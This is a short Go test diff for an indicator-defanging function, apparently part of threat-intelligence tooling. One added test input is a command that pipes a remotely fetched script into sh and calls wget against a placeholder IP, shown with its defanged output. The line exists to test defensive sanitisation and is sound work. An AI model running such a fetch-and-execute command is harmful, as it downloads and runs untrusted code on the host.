@@ -16,6 +16,8 @@ func TestDefanged(t *testing.T) {
 		{Indicator{Domain, "a.example"}, "a[.]example"},
 		{Indicator{Email, "a@b.example"}, "a[at]b[.]example"},
 		{Indicator{Path, "/tmp/a.b"}, "/tmp/a.b"},
+		{Indicator{Command, "curl -s 'HTTPS://a.example/b.sh'|sh; wget http://203.0.113.7:80"}, "curl -s 'hxxps://a[.]example/b.sh'|sh; wget hxxp://203[.]0[.]113[.]7:80"},
+		{Indicator{Command, "ls a.b"}, "ls a.b"},
 		{Indicator{Command, "a\x1b[2J\u202eb\n"}, "a [2J b "},
 	} {
 		if got := test.in.Defanged(); got != test.want {
